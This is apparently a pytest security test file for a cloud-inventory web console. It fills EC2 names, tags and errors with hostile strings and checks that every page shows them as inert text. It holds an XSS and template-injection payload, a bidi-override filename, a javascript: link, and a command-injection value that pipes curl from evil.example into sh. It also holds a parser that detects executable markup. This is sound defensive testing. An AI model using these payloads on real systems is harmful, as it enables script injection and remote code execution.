"""Names, tags, states, errors and whatever else AWS or somebody else wrote are text on every page, and nothing more."""

import re
import shlex
from dataclasses import replace
from html import unescape
from html.parser import HTMLParser
from urllib.parse import quote

import pytest

from apps.catalog.text import BIDI
from apps.cloud.explain import Explained
from apps.console import direction
from apps.operations.models import Operation, OperationStep
from apps.tenancy.context import tenant_tx
from tests.console.world import client, instance, stock
from tests.tenancy.walk import REGION, make_victim, visits

# Leaves a text, an attribute in either quotes, a comment, a script, a style and a template; turns round what follows.
HOSTILE = """'"--></script></style></template></textarea></title><img src=x onerror=a pwn="1">{{7*7}}{% x %}"""
TURNED = "gpj.\u202eexe\u2067\u061c"
COMMAND = "x; curl evil.example | sh #"
LINK = "javascript:alert(1)//"


class Parser(HTMLParser):
    """Collects what could run."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self.kept = False  # within a field, whose text is sent back as it is

    def handle_data(self, data: str) -> None:
        if BIDI.search(data) and not self.kept:
            self.found.append(f"{data!r} turns what follows")

    def handle_endtag(self, tag: str) -> None:
        self.kept = self.kept and tag != "textarea"

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.kept = self.kept or tag == "textarea"
        for name, value in attrs:
            if name == "pwn" or name.startswith("on") or name in {"style", "srcdoc"}:
                self.found.append(f"<{tag} {name}={value!r}>")
            if name in {"href", "src", "action", "formaction"} and (value or "").lower().strip().startswith(
                "javascript"
            ):
                self.found.append(f"<{tag} {name}={value!r}>")
            if name.startswith(("hx-on", "hx-vals", "hx-vars")) and "onerror" in (value or ""):
                self.found.append(f"<{tag} {name}={value!r}>")
        if tag == "script" and "src" not in dict(attrs):
            self.found.append("<script> in the page")


def harm(html: str) -> list[str]:
    parser = Parser()
    parser.feed(html)
    return parser.found + (["{{7*7}} was counted"] if "49{%" in html else [])


@pytest.fixture(scope="module")
def victim(panel_env):
    """Everything that has a name has the hostile one; what failed failed with it."""
    made = make_victim(HOSTILE[:80])
    odd = instance(HOSTILE) | {"InstanceType": HOSTILE, "PrivateIpAddress": LINK, "VpcId": HOSTILE}
    odd["Tags"] += [{"Key": HOSTILE, "Value": HOSTILE}, {"Key": "url", "Value": LINK}, {"Key": TURNED, "Value": TURNED}]
    odd["State"] = {"Name": HOSTILE, "Code": 16}
    odd["Placement"] = {"AvailabilityZone": HOSTILE[:30]}
    error = Explained(HOSTILE, HOSTILE, HOSTILE, next=HOSTILE, kind="denied").to_json()
    with tenant_tx(made.people.tenant_id):
        from apps.cloud.models import Account
        from apps.inventory.models import Scan

        production = Account.objects.get(id=made.ids.account)
        stock(production, "us-east-1", "ec2.instance", [odd])
        keys = [{"KeyName": name, "KeyPairId": f"key-{n:017x}"} for n, name in enumerate((HOSTILE, COMMAND, TURNED))]
        stock(production, "us-east-1", "ec2.key-pair", keys)
        Account.objects.filter(id=made.ids.account).update(status="problem", problem=error, role_arn=LINK)
        Scan.objects.filter(tenant_id=made.people.tenant_id, kind="ec2.vpc").update(error=error)
        left = [{"kind": "ec2.instance", "id": HOSTILE, "account": made.ids.account, "region": REGION, "text": HOSTILE}]
        Operation.objects.filter(id=made.ids.failed).update(
            state="attention", error=error, left=left, title=HOSTILE + TURNED, who_name=HOSTILE, decision_reason=HOSTILE
        )
        OperationStep.objects.filter(operation_id=made.ids.failed).update(
            title=HOSTILE, state="failed", error=error, request_ids=[HOSTILE]
        )
    return replace(made, ids=replace(made.ids, mine=made.ids.account)), odd["InstanceId"]


def test_text_stays_text(victim):
    made, odd = victim
    browser, found = client(made.people.owner), []
    more = [
        f"/ec2/instances/{odd}/",
        f"/ec2/instances/{odd}/panel/",
        "/ec2/vpcs/",
        f"/ec2/instances/action/stop/?id={odd}",
    ]
    more += [f"/ec2/instances/{odd}/tab/{tab}/" for tab in ("overview", "tags", "code", "related", "timeline")]
    more += [f"/ec2/instances/-/hints/?q={q}" for q in ("state=", "type=", "tag:", "account=")]
    more += [
        "/palette/?q=onerror",
        f"/ec2/instances/-/compare/?id={odd}&id={made.ids.instance}",
        f"/operations/{made.ids.failed}/",
    ]
    more += [f"/ec2/instances/action/terminate/?id={odd}", "/ec2/instances/?f=name=" + HOSTILE.replace("%", "%25")]
    paths = [made.ids.fill(visit.path) for visit in visits() if not visit.path.startswith("/api/")]
    seen = turned = 0
    for path in [*paths, *more]:
        answer = browser.get(path)
        if answer.streaming or not answer["Content-Type"].startswith("text/html"):
            continue
        html = answer.content.decode()
        seen += "onerror" in html
        turned += "⟨U+202E⟩" in html
        found += [f"{path}: {one}" for one in harm(html)]
    assert not found, "\n".join(found)
    assert seen > 40, "the name stood on most pages"
    assert turned >= 8


def test_what_is_sent_comes_back_as_text(victim):
    made, _odd = victim
    browser, found = client(made.people.owner), []
    for visit in visits():
        if visit.path.startswith("/api/") or not visit.body:
            continue
        form = dict.fromkeys(visit.body, HOSTILE)
        answer = browser.post(made.ids.fill(visit.path), form, follow=True)
        found += [f"{visit.path}: {one}" for one in harm(answer.content.decode())]
    assert not found, "\n".join(found)


def test_a_name_can_be_followed_whatever_it_holds(victim):
    made, _odd = victim
    browser = client(made.people.owner)
    links = re.findall(r'href="(/ec2/key-pairs/[^"?]+@[^"?]+/)"', browser.get("/ec2/key-pairs/").content.decode())
    assert len(set(links)) == 4
    for link in links:
        for path in (unescape(link), f"{unescape(link)}panel/", f"{unescape(link)}tab/code/"):
            answer = browser.get(path)
            assert answer.status_code == 200, path
            assert not harm(answer.content.decode())


def test_the_command_that_a_person_copies_holds_one_command(victim):
    """The name of a key pair, or of an account, is somebody else's."""
    made, _odd = victim
    page = client(made.people.owner).get(f"/ec2/key-pairs/{quote(COMMAND)}@{made.ids.account}:us-east-1/tab/code/")
    shown = unescape(re.sub(r"<[^>]+>", "", page.content.decode()))
    command = next(line for line in shown.splitlines() if "aws " in line)
    words = shlex.split(command[command.index("aws ") :], comments=True)
    assert words[:3] == ["aws", "--profile", HOSTILE[:80]]
    assert words[-1] == COMMAND


def test_a_mark_of_direction_is_shown_and_fields_keep_theirs():
    raw = '<p title="a\u202eb">%s</p><input value="\u202e"><textarea>\u202e</textarea>%s'
    page, shown = raw % ("a\u202eb “c” &gt;\u2066", "\u061c"), raw % ("a⟨U+202E⟩b “c” &gt;⟨U+2066⟩", "⟨U+061C⟩")
    assert direction.shown(page) == shown
